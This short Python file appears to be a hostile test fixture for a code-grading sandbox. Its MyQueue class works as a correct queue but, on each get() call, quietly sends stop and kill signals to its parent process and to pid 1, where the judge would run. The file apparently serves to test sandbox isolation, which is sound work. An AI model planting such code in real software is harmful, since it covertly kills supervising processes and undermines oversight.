"""Hostile: kill its parent process and pid 1, where the judge would be.

In the first MyQueue.get() the package sends SIGSTOP, SIGTERM and SIGKILL to its parent and to
pid 1: in a plain child of the judge, the parent is the judge (or its spec's process). Inside
the sandbox both are the sandbox's own init, which ignores signals from inside its namespace.
The queue is correct: queue.fifo and the size claim must still pass.
"""
import os
import queue
import signal


class MyQueue(queue.Queue):
    def get(self, block=True, timeout=None):
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            for pid in {os.getppid(), 1}:
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        return super().get(block, timeout)
